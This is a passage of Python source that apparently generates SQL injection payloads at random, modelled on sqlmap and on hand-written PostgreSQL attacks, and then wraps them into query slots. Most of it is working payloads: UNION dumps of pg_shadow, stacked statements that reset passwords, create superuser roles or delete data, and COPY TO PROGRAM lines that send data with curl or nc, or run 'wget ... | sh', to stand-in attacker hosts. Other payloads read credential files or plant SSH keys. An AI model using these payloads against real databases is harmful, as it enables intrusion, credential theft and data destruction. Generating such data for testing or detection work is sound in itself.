     ("SQLite > 2.0 stacked queries (heavy query - comment)", "SQLite", "sqlmap_stacked_queries", "stack",
      ";SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % T, True),
     # inline queries
     ("PostgreSQL inline queries", "PostgreSQL", "sqlmap_inline_query", "repl", "(SELECT %s||%s::text||%s)" % (pg_d1, Q, pg_d2), False),
     ("Generic inline queries", "generic", "sqlmap_inline_query", "repl",
      "(SELECT CONCAT(CONCAT('%s',(CASE WHEN (%d=%d) THEN '1' ELSE '0' END)),'%s'))" % (D1, R, R, D2), False),
     ("MySQL inline queries", "MySQL", "sqlmap_inline_query", "repl", "(SELECT CONCAT(%s,(ELT(%d=%d,1)),%s))" % (hx(D1), R, R, hx(D2)), False),
     ("Microsoft SQL Server/Sybase inline queries", "Microsoft SQL Server", "sqlmap_inline_query", "repl",
      "(SELECT %s+(CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END)+%s)" % (ms(D1), R, R, ms(D2)), False),
     ("Oracle inline queries", "Oracle", "sqlmap_inline_query", "repl", "(SELECT %s||(CASE WHEN (%d=%d) THEN 1 ELSE 0 END)||%s FROM DUAL)" % (chrs(D1)[1:-1], R, R, chrs(D2)[1:-1]), False),
     ("SQLite inline queries", "SQLite", "sqlmap_inline_query", "repl", "(SELECT '%s'||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))||'%s')" % (D1, R, R, D2), False),
     ("Firebird inline queries", "Firebird", "sqlmap_inline_query", "repl", "(SELECT '%s'||(CASE %d WHEN %d THEN 1 ELSE 0 END)||'%s' FROM RDB$DATABASE)" % (D1, R, R, D2), False),
    ]
    return out


def takeover_steps(r):
    """Statements sqlmap stacks for --os-cmd / --file-read / --file-write / --udf-inject on PostgreSQL."""
    lo = r.randint(10000, 99999)
    lib = "/tmp/libs%s.so" % rword(r, 5)
    cmd = r.choice(["id", "whoami", "uname -a", "ls -la /var/lib/postgresql", "cat /etc/hostname", "ps aux", "ip addr", "env"])
    f = r.choice(["/etc/passwd", "/etc/hosts", "/var/lib/postgresql/15/main/pg_hba.conf", "/proc/self/environ", "/home/deploy/.bash_history"])
    return r.choice([
        ("takeover --os-cmd (COPY FROM PROGRAM)", ";DELETE FROM sqlmapoutput;COPY sqlmapoutput(data) FROM PROGRAM '%s'" % cmd),
        ("takeover --os-cmd (output table)", ";CREATE TABLE IF NOT EXISTS sqlmapoutput(data text)"),
        ("takeover --file-read (lo_import)", ";SELECT lo_import('%s',%d)" % (f, lo)),
        ("takeover --file-read (pg_largeobject)", ";CREATE TABLE sqlmapfile(data text);INSERT INTO sqlmapfile(data) SELECT encode(data,'base64') FROM pg_largeobject WHERE loid=%d" % lo),
        ("takeover --file-write (lo_create)", ";SELECT lo_create(%d);DELETE FROM pg_largeobject WHERE loid=%d" % (lo, lo)),
        ("takeover --file-write (lo_export)", ";INSERT INTO pg_largeobject VALUES (%d,0,DECODE('f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA','base64'));SELECT lo_export(%d,'%s')" % (lo, lo, lib)),
        ("takeover --udf-inject (sys_exec)", ";CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int4 AS '%s','sys_exec' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % lib),
        ("takeover --udf-inject (sys_eval call)", ";SELECT sys_eval('%s')" % cmd),
        ("takeover cleanup", ";DROP FUNCTION IF EXISTS sys_exec(text);DROP TABLE IF EXISTS sqlmapoutput;SELECT lo_unlink(%d)" % lo)])


def union_test(r):
    """sqlmap UNION query technique: ORDER BY probing, NULL arm counting, marker arm, data dump."""
    n = r.randint(1, 14)
    pos = r.randrange(n)
    D1, D2, D3 = delim(r), delim(r), delim(r)
    char = r.choice(["NULL", "NULL", "NULL", str(randnum(r))])
    cols = [char] * n
    kw = r.choice(["UNION ALL SELECT"] * 4 + ["UNION SELECT"])
    style = r.randrange(8)
    lo = (n - 1) // 10 * 10 + 1
    base = "Generic UNION query (%s) - %d to %d columns" % ("NULL" if char == "NULL" else "random number", lo, lo + 9)
    if style == 0:
        return "Generic UNION query - ORDER BY technique", "generic", "ORDER BY %d" % r.choice([1, 2, 4, 8, 10, 16, 20, 5, 6, 7, 12]), False
    if style == 1:
        return base + " (count)", "generic", "%s %s" % (kw, ",".join(cols)), False
    if style == 2:
        cols[pos] = "%s||%s||%s" % (chrs(D1), chrs(randstr(r, 10)), chrs(D2))
        return base, "PostgreSQL", "%s %s" % (kw, ",".join(cols)), False
    if style == 3:
        cols[pos] = "CONCAT(0x%s,0x%s,0x%s)" % (D1.encode().hex(), randstr(r, 10).encode().hex(), D2.encode().hex())
        return "MySQL UNION query (%s) - %d to %d columns" % ("NULL" if char == "NULL" else "random number", lo, lo + 9), "MySQL", "%s %s" % (kw, ",".join(cols)), True
    src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_user", ["usename", "usecreatedb", "usesuper"]), ("pg_database", ["datname"]),
                    ("pg_tables", ["tablename"]), ("pg_stat_activity", ["usename", "query"]), ("pg_roles", ["rolname", "rolcanlogin"])]
                   + [("public." + t, c) for t, c in APP_TABLES.items()])
    parts = [chrs(D1)]
    for i, c in enumerate(src[1]):
        if i:
            parts.append(chrs(D3))
        parts.append(nz(c))
    parts.append(chrs(D2))
    cols[pos] = "||".join(parts)
    tail = ""
    if style in (5, 6):
        tail = " OFFSET %d LIMIT 1" % r.randint(0, 12)
    if style == 7:
        cols[pos] = "%s||%s||%s" % (chrs(D1), nz(r.choice(["VERSION()", "CURRENT_USER", "CURRENT_SCHEMA()", "INET_SERVER_ADDR()"])), chrs(D2))
        return base + " (banner)", "PostgreSQL", "%s %s" % (kw, ",".join(cols)), False
    return base + " (dump)", "PostgreSQL", "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), False


# ---------------------------------------------------------------- hand-written PostgreSQL cores
# mode: cond (an AND/OR clause) | stack (a statement after ;) | union | repl (a value) | concat (spliced with ||)
def hand_cores(r):
    a, b = r.randint(3, 70), r.randint(71, 999)
    w = rword(r, r.randint(3, 6))
    W = w.upper()
    sl = r.choice([3, 5, 6, 7, 9, 15])
    tbl = r.choice(TABLE_NAMES)
    c0, c1 = APP_TABLES[tbl]
    host = r.choice(["x", "d", "n", "q"]) + rword(r, 4) + "." + r.choice(["oast.example", "collab.example.net", "exfil.example.org", "203-0-113-9.nip.example"])
    ip = "%s.%d" % (r.choice(["203.0.113", "198.51.100", "192.0.2"]), r.randint(2, 254))
    path = r.choice(["/etc/passwd", "/etc/hostname", "/proc/self/environ", "/var/lib/postgresql/.psql_history", "postgresql.auto.conf",
                     "/etc/ssl/private/ssl-cert-snakeoil.key", "../../../../../etc/group", "/home/deploy/.aws/credentials"])
    role = r.choice(["app_rw", "svc_lockers", "reporting", "etl_loader"])
    pw = randstr(r, 10)
    C = {
     "tautology": [
        ("or_between_symmetric", "cond", "OR %d BETWEEN SYMMETRIC %d AND 1" % (a, b)), ("or_is_distinct", "cond", "OR %d IS DISTINCT FROM %d" % (a, b)),
        ("or_typed_null", "cond", "OR NULL::int IS NULL"), ("or_upper_eq", "cond", "OR upper('%s') = '%s'" % (w, W)),
        ("or_any_literal_array", "cond", "OR %d = ANY ('{%d,%d}'::int[])" % (a, b, a)), ("or_scalar_eq", "cond", "OR (SELECT %d = %d)" % (a, a)),
        ("or_contained_by", "cond", "OR ARRAY[%d] <@ ARRAY[%d,%d]" % (a, b, a)), ("or_today", "cond", "OR current_date = current_date"),
        ("or_isfinite", "cond", "OR isfinite(now())"), ("or_pi", "cond", "OR pi() > 3"), ("or_text_order", "cond", "OR '9' > '%d'" % b),
        ("or_row_eq", "cond", "OR ROW(%d, '%s') = ROW(%d, '%s')" % (a, w, a, w)), ("or_int_numeric", "cond", "OR %d = %d.0" % (a, a)),
        ("or_num_nonnulls", "cond", "OR num_nonnulls(%d, NULL) = 1" % a), ("or_starts_with", "cond", "OR starts_with('%s', '%s')" % (w, w[:2])),
        ("or_jsonb_has_key", "cond", "OR '{\"%s\": 1}'::jsonb ? '%s'" % (w, w)), ("or_range_overlap", "cond", "OR int4range(1, %d) && int4range(%d, %d)" % (b, a, b)),
        ("or_md5_eq", "cond", "OR md5('%s') = md5('%s')" % (w, w)), ("or_char_length", "cond", "OR char_length('%s') = %d" % (w, len(w))),
        ("or_exists_values", "cond", "OR EXISTS (VALUES (%d))" % a), ("or_in_scalar", "cond", "OR '%s' IN (SELECT '%s')" % (w, w)),
        ("or_negative_lt", "cond", "OR -%d < %d" % (b, a)), ("or_like_prefix", "cond", "OR '%s' LIKE '%s%%'" % (w, w[:2])),
        ("or_unknown_bool", "cond", "OR 'true'"), ("or_y_bool", "cond", "OR 'y'::bool"), ("or_coalesce_true", "cond", "OR coalesce(NULL, true)"),
        ("or_case_true", "cond", "OR CASE WHEN %d > 0 THEN true END" % a), ("or_ascii_eq", "cond", "OR ascii('%s') = %d" % (w[0], ord(w[0]))),
        ("or_not_gt", "cond", "OR NOT (%d > %d)" % (a, b)), ("or_bitand", "cond", "OR (%d & %d) = %d" % (a, a, a)),
        ("or_in_series", "cond", "OR %d IN (SELECT generate_series(1, %d))" % (a, b)), ("or_ge_self", "cond", "OR %d >= %d" % (b, b)),
        ("or_array_length", "cond", "OR array_length(ARRAY[1,2,3], 1) = 3"), ("or_reverse_eq", "cond", "OR reverse('%s') = '%s'" % (w, w[::-1]))],
     "boolean_blind": [
        ("data_dir_slash", "cond", "AND substr(current_setting('data_directory'), 1, 1) = '/'"),
        ("rds_roles", "cond", "AND EXISTS (SELECT 1 FROM pg_roles WHERE rolname LIKE 'rds%')"),
        ("db_create_priv", "cond", "AND has_database_privilege(current_database(), 'CREATE')"),
        ("version_num_ge", "cond", "AND current_setting('server_version_num')::int >= %d" % r.choice([120000, 130000, 140000, 150000, 160000])),
        ("dblink_proc", "cond", "AND EXISTS (SELECT 1 FROM pg_proc WHERE proname = 'dblink_connect')"),
        ("ext_available", "cond", "AND (SELECT count(*) FROM pg_available_extensions WHERE name = '%s') = 1" % r.choice(["plpython3u", "dblink", "file_fdw", "adminpack", "pgcrypto"])),
        ("not_replica", "cond", "AND NOT pg_is_in_recovery()"),
        ("sha_first_byte", "cond", "AND get_byte(sha256(convert_to(current_user, 'UTF8')), 0) > %d" % r.choice([31, 63, 127, 191])),
        ("authid_pw_len", "cond", "AND (SELECT length(rolpassword) FROM pg_authid WHERE rolname = current_user) > %d" % r.choice([10, 35, 80])),
        ("createdb_flag", "cond", "AND (SELECT usecreatedb FROM pg_user WHERE usename = user)"),
        ("server_port", "cond", "AND inet_server_port() = %d" % r.choice([5432, 5433, 6432, 25060])),
        ("ssl_on", "cond", "AND current_setting('ssl') = 'on'"),
        ("secret_tables", "cond", "AND (SELECT count(*) FROM information_schema.tables WHERE table_name LIKE '%%%s%%') > 0" % r.choice(["secret", "token", "pass", "key"])),
        ("column_name_cmp", "cond", "AND (SELECT column_name FROM information_schema.columns WHERE table_name = '%s' ORDER BY ordinal_position LIMIT 1 OFFSET %d) > '%s'" % (tbl, r.randint(0, 3), r.choice("dhmps"))),
        ("session_user_case", "cond", "AND 1 = (SELECT CASE WHEN session_user = 'postgres' THEN 1 ELSE 0 END)"),
        ("db_bit_length", "cond", "AND bit_length(current_database()) > %d" % r.choice([16, 32, 64, 96])),
        ("reltuples", "cond", "AND (SELECT reltuples FROM pg_class WHERE relname = '%s') > %d" % (tbl, r.choice([0, 100, 10000]))),
        ("scram_prefix", "cond", "AND (SELECT left(passwd, 13) FROM pg_shadow WHERE usename = current_user) = 'SCRAM-SHA-256'"),
        ("timezone_prefix", "cond", "AND current_setting('TimeZone') LIKE '%s%%'" % r.choice(["Europe", "UTC", "America", "Etc"]))],
     "time_pg_sleep": [
        ("sleep_text_length", "cond", "AND length(pg_sleep(%d)::text) = 0" % sl), ("sleep_limit_one", "cond", "AND (SELECT 1 FROM pg_sleep(%d) LIMIT 1) = 1" % sl),
        ("case_user_sleep_text", "cond", "AND CASE WHEN current_user LIKE 'post%%' THEN pg_sleep(%d)::text ELSE '' END = ''" % sl),
        ("exists_sleep", "cond", "AND EXISTS (SELECT pg_sleep(%d))" % sl), ("in_sleep_for", "cond", "AND 1 IN (SELECT 1 FROM pg_sleep_for('%d seconds'))" % sl),
        ("heavy_md5_agg", "cond", "AND (SELECT string_agg(md5(g::text), '') FROM generate_series(1, %d) g) IS NOT NULL" % r.choice([3000000, 4000000, 8000000])),
        ("heavy_repeat", "cond", "AND length(repeat(md5('%s'), %d)) > 0" % (w, r.choice([20000000, 40000000]))),
        ("heavy_recursive", "cond", "AND (WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < %d) SELECT count(*) FROM t) > 0" % r.choice([5000000, 20000000])),
        ("stack_case_sleep", "stack", "SELECT CASE WHEN ascii(substr(current_user, 1, 1)) > %d THEN pg_sleep(%d) END" % (r.choice([100, 111, 112]), sl)),
        ("stack_sleep_label", "stack", "SELECT 'zz' || pg_sleep(%d)::text" % sl), ("value_sleep_coalesce", "repl", "coalesce((SELECT 1 FROM pg_sleep(%d)), 1)" % sl),
        ("or_sleep_random", "cond", "OR pg_sleep(%d + random() * 0) IS NULL" % sl),
        ("cross_sleep", "cond", "AND 0 < (SELECT count(*) FROM pg_sleep(%d), generate_series(1, 2))" % sl),
        ("sleep_in_array", "cond", "AND ARRAY[pg_sleep(%d)::text] IS NOT NULL" % sl)],
     "error_cast": [
        ("db_bigint", "cond", "AND CAST(current_database() AS bigint) = 1"), ("datadir_int", "cond", "AND current_setting('data_directory')::int = 1"),
        ("columns_agg_int", "cond", "AND 1 = (SELECT string_agg(column_name, ':') FROM information_schema.columns WHERE table_name = '%s')::int" % tbl),
        ("jsonb_user_int", "cond", "AND 1 = jsonb_build_object('u', current_user)::text::int"), ("version_float8", "cond", "AND 1 = (SELECT version())::float8"),
        ("super_regclass", "cond", "AND (SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1)::regclass IS NULL"),
        ("user_uuid", "cond", "AND current_user::text::uuid IS NULL"), ("make_date_leak", "cond", "AND make_date(0, 0, ascii(substr(current_user, 1, 1))) IS NULL"),
        ("array_int_leak", "cond", "AND (ARRAY[session_user::text])::int[] IS NULL"),
        ("table_xml_int", "cond", "AND 1 = table_to_xml('%s', true, false, '')::text::int" % tbl),
        ("listen_numeric", "cond", "AND (SELECT current_setting('listen_addresses'))::numeric > 0"),
        ("div_zero_oracle", "cond", "AND 1 = 1 / (ascii(substr(current_user, 1, 1)) - 112)"),
        ("shadow_inet", "cond", "AND (SELECT passwd FROM pg_shadow LIMIT 1)::inet IS NULL"),
        ("db_interval", "cond", "AND current_database()::interval IS NULL"),
        ("value_regtype", "repl", "(SELECT host(inet_server_addr())::regtype::oid::int)")],
     "union": [
        ("union_data_dir", "union", "UNION SELECT NULL, current_setting('data_directory')"), ("union_usesysid", "union", "UNION ALL SELECT usename, usesysid::text FROM pg_user"),
        ("union_proc_src", "union", "UNION SELECT proname, prosrc FROM pg_proc WHERE pronamespace = 'public'::regnamespace"),
        ("union_secret_settings", "union", "UNION SELECT name, setting FROM pg_settings WHERE name ~ 'pass|key|ssl'"),
        ("union_namespaces", "union", "UNION ALL SELECT nspname, nspowner::text FROM pg_namespace"),
        ("union_relnames", "union", "UNION SELECT string_agg(relname, ','), NULL FROM pg_class WHERE relkind = 'r'"),
        ("union_validuntil", "union", "UNION SELECT rolname, rolvaliduntil::text FROM pg_roles"),
        ("union_activity", "union", "UNION ALL SELECT usename::text, left(query, 200) FROM pg_stat_activity"),
        ("union_file_settings", "union", "UNION SELECT sourcefile, setting FROM pg_file_settings"),
        ("union_derived", "union", "UNION SELECT * FROM (SELECT current_user, version()) AS x"), ("union_table", "union", "UNION TABLE pg_user"),
        ("union_dump_app", "union", "UNION ALL SELECT %s::text, %s::text FROM %s" % (c0, c1, tbl)),
        ("union_user_mappings", "union", "UNION SELECT srvname, array_to_string(umoptions, ',') FROM pg_user_mappings")],
     "stacked": [
        ("alter_user_password", "stack", "ALTER USER %s WITH PASSWORD '%s'" % (role, pw)), ("truncate_cascade", "stack", "TRUNCATE %s RESTART IDENTITY CASCADE" % tbl),
        ("copy_shadow_table", "stack", "CREATE TABLE %s AS SELECT * FROM pg_shadow" % w), ("session_authorization", "stack", "SET SESSION AUTHORIZATION DEFAULT; RESET ROLE"),
        ("alter_system", "stack", "ALTER SYSTEM SET shared_preload_libraries = '/tmp/%s.so'" % w),
        ("promote_account", "stack", "UPDATE backoffice_users SET is_admin = true WHERE login = '%s'" % w),
        ("grant_database", "stack", "GRANT ALL PRIVILEGES ON DATABASE %s TO PUBLIC" % r.choice(["lockers", "ferries", "royalties"])),
        ("create_file_fdw", "stack", "CREATE EXTENSION IF NOT EXISTS file_fdw"), ("revoke_schema", "stack", "REVOKE ALL ON SCHEMA public FROM app_ro"),
        ("drop_owned", "stack", "DROP OWNED BY %s CASCADE" % role),
        ("rule_steal", "stack", "CREATE RULE steal_%s AS ON INSERT TO backoffice_users DO ALSO INSERT INTO guestbook_entries (body) VALUES (NEW.password_digest)" % w),
        ("owner_change", "stack", "ALTER TABLE %s OWNER TO %s" % (tbl, role)),
        ("insert_token", "stack", "INSERT INTO integration_keys (token_hint, owner_login, scopes) VALUES ('%s', '%s', '{admin}')" % (randstr(r, 8), w)),
        ("publication_all", "stack", "CREATE PUBLICATION %s FOR ALL TABLES" % w), ("vacuum_full", "stack", "VACUUM FULL %s" % tbl),
        ("advisory_lock", "stack", "SELECT pg_advisory_lock(%d)" % r.randint(1, 99999)),
        ("read_only_db", "stack", "ALTER DATABASE postgres SET default_transaction_read_only = on"), ("delete_all", "stack", "DELETE FROM %s WHERE true" % tbl)],
     "oob_file_program": [
        ("copy_to_curl", "stack", "COPY %s TO PROGRAM 'curl -s -d @- https://%s/u'" % (tbl, host)),
        ("copy_shadow_nc", "stack", "COPY (SELECT string_agg(usename || ':' || passwd, ' ') FROM pg_shadow) TO PROGRAM 'nc %s 9001'" % ip),
        ("union_auto_conf", "union", "UNION SELECT pg_read_file('postgresql.auto.conf', 0, 4096), 'auto'"),
        ("ls_dir_count", "cond", "AND array_length(ARRAY(SELECT pg_ls_dir('.')), 1) > 0"), ("ls_logdir", "stack", "SELECT name, modification FROM pg_ls_logdir() ORDER BY 2 DESC"),
        ("ls_waldir", "stack", "SELECT name, size FROM pg_ls_waldir()"),
        ("copy_from_proc", "stack", "CREATE TEMP TABLE %s(c text); COPY %s FROM '/proc/net/tcp'" % (w, w)),
        ("lo_get_import", "stack", "SELECT convert_from(lo_get(lo_import('%s')), 'UTF8')" % path),
        ("dblink_creds", "stack", "SELECT dblink_connect('host=%s user=%s password=%s dbname=loot')" % (ip, role, pw)),
        ("copy_wget_sh", "stack", "COPY (SELECT '') TO PROGRAM 'wget -qO- http://%s/s.sh | sh'" % host),
        ("read_pg_control", "stack", "SELECT encode(pg_read_binary_file('global/pg_control', 0, 64), 'hex')"), ("ls_tmpdir", "cond", "AND (SELECT count(*) FROM pg_ls_tmpdir()) >= 0"),
        ("stat_base", "stack", "SELECT * FROM pg_stat_file('base', true)"),
        ("authorized_keys", "stack", "COPY (SELECT 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s op@%s') TO '/var/lib/postgresql/.ssh/authorized_keys'" % (randstr(r, 20), w)),
        ("file_error_leak", "cond", "AND 1 = CAST(pg_read_file('%s') AS int)" % path), ("file_length", "repl", "(SELECT length(pg_read_file('%s')))" % path),
        ("lo_from_file", "stack", "SELECT lo_from_bytea(0, pg_read_binary_file('%s'))" % path),
        ("dns_exfil_dblink", "stack", "SELECT dblink_connect('host=' || (SELECT md5(passwd) FROM pg_shadow LIMIT 1) || '.%s user=a dbname=b')" % host)],
     "plpgsql_do_exec": [
        ("do_create_role", "stack", "DO $body$ BEGIN EXECUTE 'CREATE ROLE %s LOGIN SUPERUSER PASSWORD ''%s'''; END $body$" % (w, pw)),
        ("do_dblink", "stack", "DO $$ BEGIN PERFORM dblink_connect('host=%s user=x'); END $$" % ip),
        ("do_raise_leak", "stack", "DO $x$ BEGIN RAISE EXCEPTION '%%', (SELECT string_agg(usename || ':' || passwd, ',') FROM pg_shadow); END $x$"),
        ("do_busy_loop", "stack", "DO $$ BEGIN FOR i IN 1..%d LOOP PERFORM md5(i::text); END LOOP; END $$" % r.choice([5000000, 20000000])),
        ("do_copy_program", "stack", "DO $d$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch /tmp/%s'''; END $d$" % w),
        ("plpython_popen", "stack", "CREATE FUNCTION %s() RETURNS text AS $py$ import os; return os.popen('id').read() $py$ LANGUAGE plpython3u" % w),
        ("shadow_lower", "stack", "CREATE OR REPLACE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS $f$ SELECT pg_catalog.lower($1) $f$"),
        ("do_quoted_sleep", "stack", "DO LANGUAGE plpgsql 'DECLARE t int := %d; BEGIN PERFORM pg_sleep(t); END'" % sl),
        ("procedure_call", "stack", "CREATE PROCEDURE %s() LANGUAGE plpgsql AS $p$ BEGIN DELETE FROM %s; END $p$; CALL %s()" % (w, tbl, w)),
        ("do_chr_built", "stack", "DO $$DECLARE q text := chr(68)||chr(82)||chr(79)||chr(80)||' TABLE %s'; BEGIN EXECUTE q; END$$" % tbl),
        ("do_if_super_sleep", "stack", "DO $a$ BEGIN IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN PERFORM pg_sleep(%d); END IF; END $a$" % sl),
        ("secdef_trigger_fn", "stack", "CREATE OR REPLACE FUNCTION %s() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $t$ BEGIN INSERT INTO integration_keys SELECT NEW.*; RETURN NEW; END $t$" % w)],
     "string_concat_subquery": [
        ("concat_data_dir", "concat", "(SELECT current_setting('data_directory'))"), ("concat_server_host", "concat", "host(inet_server_addr())"),
        ("concat_roles", "concat", "(SELECT string_agg(rolname, '|') FROM pg_roles)"), ("concat_version", "concat", "split_part(version(), ' ', 2)"),
        ("concat_max_user", "concat", "(SELECT max(usename) FROM pg_user)"), ("concat_db", "concat", "upper(current_database())"),
        ("concat_dump", "concat", "(SELECT string_agg(%s::text, ';') FROM %s)" % (c0, tbl)), ("concat_txid", "concat", "txid_current()::text"),
        ("concat_hba_path", "concat", "(SELECT setting FROM pg_settings WHERE name = 'hba_file')"), ("concat_quoted_user", "concat", "quote_literal(current_user)"),
        ("concat_active", "concat", "(SELECT count(*) FROM pg_stat_activity WHERE state = 'active')::text"),
        ("concat_datnames", "concat", "(SELECT string_agg(datname, ',') FROM pg_database WHERE NOT datistemplate)"),
        ("concat_pw_md5", "concat", "md5((SELECT passwd FROM pg_shadow LIMIT 1))")],
     "dollar_quote": [
        ("or_dollar_eq", "cond", "OR $q$%s$q$ = $q$%s$q$" % (w, w)), ("union_dollar_label", "union", "UNION SELECT $$%s$$, usename FROM pg_user" % w),
        ("copy_program_dollar", "stack", "CREATE TEMP TABLE o_%s(l text); COPY o_%s FROM PROGRAM $c$id$c$" % (w, w)),
        ("role_dollar_pw", "stack", "CREATE ROLE %s LOGIN PASSWORD $p$%s$p$" % (w, pw)), ("user_dollar_eq", "cond", "AND session_user = $who$postgres$who$"),
        ("set_config_dollar", "stack", "SELECT set_config($s$log_statement$s$, $s$none$s$, false)"),
        ("cast_dollar_version", "cond", "AND 1 = CAST($c$1$c$ || version() AS int)"),
        ("position_dollar", "cond", "OR position($t$%s$t$ IN $t$x%s$t$) > 0" % (w, w)),
        ("update_dollar_digest", "stack", "UPDATE backoffice_users SET password_digest = $h$%s$h$" % randstr(r, 16)),
        ("value_dollar_user", "repl", "(SELECT $v$%s$v$ || current_user)" % w),
        ("read_file_dollar", "stack", "SELECT pg_read_file($f$%s$f$)" % path)],
     "e_escape": [
        ("e_octal_a", "cond", "OR E'\\141' = chr(97)"), ("e_hex_user", "cond", "AND current_user = E'\\x70\\x6f\\x73\\x74\\x67\\x72\\x65\\x73'"),
        ("e_unicode_union", "union", "UNION SELECT E'\\u0070\\u0067', usename FROM pg_user"),
        ("e_hex_program", "stack", "COPY (SELECT 1) TO PROGRAM E'\\x69\\x64'"), ("u_amp_six_digit", "cond", "OR U&'\\+000031' = '1'"),
        ("u_amp_ident_sleep", "cond", "AND U&\"\\0070g_sleep\"(%d) IS NOT NULL" % sl),
        ("u_amp_ident_read", "stack", "SELECT U&\"\\0070g_read_file\"(E'\\x2fetc\\x2fpasswd')"),
        ("e_escaped_quote", "cond", "OR E'it\\'s' = E'it\\'s'"), ("e_hex_cast_db", "cond", "AND 1 = CAST(E'\\x30' || current_database() AS int)"),
        ("e_hex_tilde", "cond", "OR E'\\x7e' = '~'"), ("u_amp_uescape", "cond", "OR U&'!0041' UESCAPE '!' = 'A'"),
        ("u_amp_union_label", "union", "UNION ALL SELECT U&'\\0075ser', current_user")],
    }
    return C


# ---------------------------------------------------------------- putting a payload into a slot
def sqlmap_wrap(r, si, orig, kind, P, need_comment, dbms):
    """What sqlmap would send for this slot: its boundaries (prefix/suffix pairs),
    including the ones that do not fit this slot."""
    typ, depth = si["type"], si["depth"]
    cmt = lambda: "#" if dbms == "MySQL" and r.random() < 0.35 else generic_comment(r)
    S = randstr(r)
    if typ in ("q", "e", "d", "qi"):
        qc = '"' if typ == "qi" else "'"
        if kind == "order":
            return None
        k = depth if r.random() < 0.85 else r.choice([x for x in (0, 1, 2) if x != depth])
        o = "-%d" % randnum(r) if kind == "neg" and r.random() < 0.7 else orig
        pct = si["like_after"] and r.random() < 0.6
        if pct:
            o += "%"
        pre = o + qc + ")" * k
        if kind in ("repl", "orig"):
            st = r.randrange(3)
            if st == 0:
                return qc + "||" + P + "||" + qc
            if st == 1:
                return o + qc + "||" + P + "||" + qc
            return o + qc + "||" + P + cmt()
        if kind == "stack":
            if need_comment or r.random() < 0.75:
                return pre + P + cmt()
            return pre + P + " AND " + "(" * k + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        body = pre + " " + P
        if need_comment:
            return body + cmt()
        x = r.random()
        if x < 0.55:
            if pct:
                return body + " AND " + "(" * k + "%s%%%s=%s" % (qc, qc, qc)
            return body + " AND " + "(" * k + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if x < 0.7:
            return body + " AND " + "(" * k + "%s%s%s LIKE %s%s" % (qc, S, qc, qc, S)
        if x < 0.95:
            return body + cmt()
        return body
    if typ in ("n", "list", "bool"):
        o = orig
        if kind == "neg" and r.random() < 0.75:
            o = "-%d" % randnum(r) if typ != "bool" else "false"
        k = depth if (depth and r.random() < 0.6) else (1 if r.random() < 0.05 else 0)
        if kind in ("repl", "orig"):
            return P
        if kind == "order":
            return None
        pre = o + ")" * k
        if kind == "stack":
            return pre + P + (cmt() if need_comment or k or r.random() < 0.6 else "")
        body = pre + " " + P
        if need_comment:
            return body + cmt()
        if k and r.random() < 0.6:
            return body + " AND " + "(" * k + "%d=%d" % ((lambda v: (v, v))(randnum(r)))
        if k or (si["tail_means"] and r.random() < 0.5):
            return body + cmt()
        return body
    if typ in ("col", "dir"):
        o = orig
        if kind == "order":
            return o + P + ("" if r.random() < 0.6 else cmt())
        if kind in ("repl", "orig"):
            return P if typ == "col" else None
        if kind == "stack":
            return o + P + (cmt() if need_comment or r.random() < 0.6 else "")
        if r.random() < 0.3:
            return o + " " + P + cmt()
        return None
    if typ == "ident":
        if kind == "stack":
            return orig + P + (cmt() if need_comment or r.random() < 0.5 else "")
        return None
    return None


def hand_comment(r):
    return r.choice(["--", "-- ", "-- x", "--%s" % rword(r, 3), "-- -", "--+", "; --", "-- " + rword(r, 2)])


def hand_wrap(r, si, orig, mode, core):
    """A hand-made breakout: the right closing sequence for the slot and a valid ending."""
    typ, cl = si["type"], si["closers"]
    w = rword(r, 3)
    lead = si["lead"]
    if lead == "SET" and mode != "stack":
        return None                     # SET takes no expression: only a stacked statement fits
    if si["prev_word"] in ("BETWEEN", "SYMMETRIC"):
        return None                     # the template's own AND follows
    if si["next_word"] == "ROWS" and mode != "stack":
        return None                     # FETCH/OFFSET n ROWS: only a stacked statement fits
    boxed = bool(cl) and (lead in ("EXECUTE", "CALL") or "VALUES" in si["ctx"])
    if mode == "union" and (lead not in ("SELECT", "INSERT") or (lead == "INSERT" and "VALUES" not in si["ctx"] and cl)):
        return None
    over = si["hand_close"]
    if typ in STRING_TYPES:
        close = over if over is not None else CLOSER[typ] + cl
    else:
        close = over if over is not None else cl
    if lead == "WITH" and si["depth"] and mode == "stack":
        close += " SELECT 1"
    if typ == "qi":
        if mode == "cond":
            return orig + '" WHERE ' + re.sub(r"^(AND|OR)\s+", "", core) + " " + hand_comment(r)
        if mode == "union":
            return orig + '" ' + core + " " + hand_comment(r)
    if typ in STRING_TYPES:
        qc = CLOSER[typ]
        if mode in ("concat", "repl"):
            if typ == "qi":
                return None
            if typ == "d":
                return orig + qc + " || " + core + " || " + qc
            return r.choice(["", orig]) + qc + r.choice(["||", " || "]) + core + r.choice(["||", " || "]) + qc
        if mode == "cond":
            st = r.random()
            if typ in ("q", "e") and over is None and (st < 0.45 or boxed):
                tail = r.choice([" AND '%s'='%s" % (w, w), " AND '%s' = '%s" % (w, w), " OR '%s'='%s" % (w, w + "x")])
                return orig + qc + " " + core + tail
            if typ == "d" and st < 0.3:
                return orig + qc + " " + core + " AND " + qc + w + qc + " = " + qc + w
            if boxed:
                return None
            if close == qc and not si["tail_means"] and st < 0.6:
                return orig + qc + " " + core + " " + hand_comment(r).strip(" ;")
            return orig + close + " " + core + r.choice(["", " "]) + hand_comment(r)
        if mode == "union":
            return orig + close + " " + core + r.choice(["", " "]) + hand_comment(r)
        if mode == "stack":
